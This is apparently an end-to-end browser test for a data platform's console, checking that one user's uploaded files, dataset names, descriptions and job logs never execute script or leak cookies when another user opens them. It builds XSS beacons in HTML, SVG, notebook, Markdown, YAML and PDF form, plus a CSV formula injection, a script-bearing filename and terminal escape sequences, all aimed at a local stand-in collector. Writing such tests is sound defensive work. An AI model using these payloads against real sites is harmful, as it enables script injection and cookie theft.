import http from "node:http";
import type { AddressInfo } from "node:net";
import { type Browser, type BrowserContext, expect, type Page } from "@playwright/test";
import { consoleUrl, gatewayUrl, type Signed, sessionApi, test } from "./fixtures";
import { takeUpSession } from "./people";

interface Collector {
  readonly origin: string;
  /** What rang here, with the cookies it brought. */
  readonly rung: string[];
  close(): void;
}

/** A server of somebody else's, that every beacon rings at. */
async function startCollector(): Promise<Collector> {
  const rung: string[] = [];
  const server = http.createServer((request, response) => {
    rung.push(`${request.method} ${request.url} ${request.headers.cookie ?? ""}`.trim());
    response.writeHead(200, { "content-type": "text/javascript", "access-control-allow-origin": "*" }).end("1");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return { origin: `http://127.0.0.1:${port}`, rung, close: () => void server.close() };
}

/** Every way in which a page rings somewhere, the moment it is rendered. */
const beacons = (origin: string, from: string) => `
  <script src="${origin}/${from}/script"></script>
  <script>fetch("${origin}/${from}/fetch"); document.title = "it ran"; new Image().src = "${origin}/${from}/image";</script>
  <img src="${origin}/${from}/img" onerror="fetch('${origin}/${from}/onerror')">
  <link rel="stylesheet" href="${origin}/${from}/style">
  <iframe src="${origin}/${from}/frame"></iframe>
  <form id="f" method="post" action="${origin}/${from}/form"></form><script>document.getElementById("f").submit()</script>`;

function hostileFiles(origin: string): Readonly<Record<string, string>> {
  const ring = (from: string) => beacons(origin, from);
  const source = JSON.stringify(ring("notebook"));
  return {
    "page.html": `<!doctype html><html><body>${ring("html")}</body></html>`,
    "drawing.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${origin}/svg/onload')"><script>fetch("${origin}/svg/script")</script><image href="${origin}/svg/image"/></svg>`,
    "photo.png": `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("${origin}/png/script")</script></svg>`,
    "book.ipynb": `{"cells":[{"cell_type":"code","metadata":{},"source":"","outputs":[{"output_type":"display_data","metadata":{},"data":{"text/html":${source}}}]}],"metadata":{},"nbformat":4,"nbformat_minor":5}`,
    "README.md": `# Read me\n\n${ring("markdown")}\n\n![x](${origin}/markdown/picture)\n\n[x](javascript:fetch('${origin}/markdown/link'))\n`,
    "settings.yaml": `a: !!js/function "function () { fetch('${origin}/yaml/function') }"\nb: "${ring("yaml").replaceAll('"', "'").replaceAll("\n", " ")}"\n`,
    "table.csv": `name,value\n=cmd|' /C calc'!A0,1\n"${ring("csv").replaceAll('"', "'").replaceAll("\n", " ")}",2\n`,
    "paper.pdf": `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(${origin}/pdf/uri)>>/AA<</O<</S/JavaScript/JS(app.launchURL("${origin}/pdf/js"))>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
    "<img src=x onerror=alert(1)>.txt": "a name\n",
  };
}

test("beacons in files, names and log lines of one person never ring when another opens them", async ({ someone, browser }) => {
  test.setTimeout(300_000);
  const collector = await startCollector();
  await expectBeaconsToWork(browser, collector);
  const author = await someone("en");
  const dataset = await uploadHostile(author, collector.origin);
  const job = await runHostile(author, collector.origin);

  const reader = await browser.newContext({ acceptDownloads: true });
  await takeUpSession(reader);
  const page = await reader.newPage();
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const cookies = watchForeignCookies(page);
  const places = [
    `/${author.project}`,
    `/${author.project}/datasets`,
    ...Object.keys(hostileFiles(collector.origin)).map((path) => `${dataset.address}&path=${encodeURIComponent(path)}`),
    dataset.address,
    `/${author.project}/jobs`,
    ...["", "/log", "/configuration", "/events", "/outputs", "/lineage"].map((tab) => `${job.address}${tab}`),
  ];
  for (const place of places) {
    await page.goto(place);
    await expect(page.locator("main").first(), place).toBeVisible();
    await page.waitForLoadState("networkidle");
    expect(await page.title(), place).not.toBe("it ran");
  }
  for (const path of Object.keys(hostileFiles(collector.origin))) {
    await expectOnlySaved(reader, `dataset-versions/${dataset.versionId}/download?path=${encodeURIComponent(path)}`);
  }
  await expectOnlySaved(reader, `attempts/${job.attemptId}/outputs/download?path=report.html`);

  expect(collector.rung).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(cookies, "the files host and the collector get no cookie").toEqual([]);
  await reader.close();
  collector.close();
});

/** The same page, opened as somebody's own site, rings: else silence would prove nothing. */
async function expectBeaconsToWork(browser: Browser, collector: Collector): Promise<void> {
  const page = await browser.newPage();
  await page.setContent(hostileFiles(collector.origin)["page.html"] ?? "");
  await expect.poll(() => collector.rung.length).toBeGreaterThan(4);
  await page.waitForLoadState("networkidle");
  await page.close();
  collector.rung.length = 0;
}

async function uploadHostile({ api, project, projectId }: Signed, origin: string) {
  const name = `<img src="${origin}/name/img" onerror="fetch('${origin}/name/onerror')">`;
  const { id, slug } = await api.post<{ id: string; slug: string }>("datasets", {
    projectId,
    name,
    slug: "hostile",
    description: beacons(origin, "description"),
  });
  const draft = await api.post<{ id: string }>(`datasets/${id}/versions`);
  const { token } = await api.post<{ token: string }>(`dataset-versions/${draft.id}/uploads`, { bytes: 100_000, files: 20 });
  for (const [path, text] of Object.entries(hostileFiles(origin))) {
    const answer = await fetch(`${gatewayUrl}/files/uploads/${encodeURIComponent(path)}`, {
      method: "PUT",
      headers: { authorization: `Bearer ${token}` },
      body: text,
    });
    expect(answer.status, `${path} ${await answer.text()}`).toBe(201);
  }
  await api.post(`dataset-versions/${draft.id}/commit`, {
    note: `<img src="${origin}/note/img"><script src="${origin}/note/script"></script>`,
  });
  return { versionId: draft.id, address: `/${project}/datasets/${slug}?v=1` };
}

/** A job whose name, log and output ring. */
async function runHostile({ api, project, projectId }: Signed, origin: string) {
  const text = [
    "import os, pathlib",
    `page = ${JSON.stringify(beacons(origin, "log"))}`,
    "print(page)",
    `print("\\x1b]8;;${origin}/log/link\\x07here\\x1b]8;;\\x07 \\x1b[31mred")`,
    'pathlib.Path(os.environ["CAIRN_OUTPUT_DIR"], "report.html").write_text(page)',
  ].join("\n");
  const name = `<script src="${origin}/job/script"></script>`;
  const { id, slug } = await api.post<{ id: string; slug: string }>("jobs", {
    projectId,
    name,
    environment: "plain-python",
    code: { text },
  });
  const now = () => api.get<{ status: string; attempt: { id: string } }>(`jobs/${id}`);
  await expect.poll(async () => (await now()).status, { timeout: 120_000 }).toMatch(/succeeded|failed/);
  const { status, attempt } = await now();
  expect(status).toBe("succeeded");
  await expect.poll(async () => (await api.get<{ items: unknown[] }>(`jobs/${id}/outputs`)).items.length, { timeout: 30_000 }).toBe(1);
  return { attemptId: attempt.id, address: `/${project}/jobs/${slug}` };
}

/** Whatever goes to another host with a cookie of ours. */
function watchForeignCookies(page: Page): string[] {
  const found: string[] = [];
  page.context().on("request", async (request) => {
    if (new URL(request.url()).origin === consoleUrl) return;
    const { cookie } = await request.allHeaders();
    if (cookie !== undefined) found.push(`${request.url()} ${cookie}`);
  });
  return found;
}

/** A link to bytes saves them: the tab stays where it was, and nothing of them is rendered. */
async function expectOnlySaved(context: BrowserContext, route: string): Promise<void> {
  const { url } = await sessionApi(context.request, "en").get<{ url: string }>(route);
  const page = await context.newPage();
  await page.goto("/account");
  const saved = page.waitForEvent("download");
  const host = new URL(url);
  host.hostname = "files.apps.localhost";
  await page.evaluate((address) => window.location.assign(address), host.href);
  await (await saved).cancel();
  expect(page.url(), route).toBe(`${consoleUrl}/account`);
  await page.close();
}
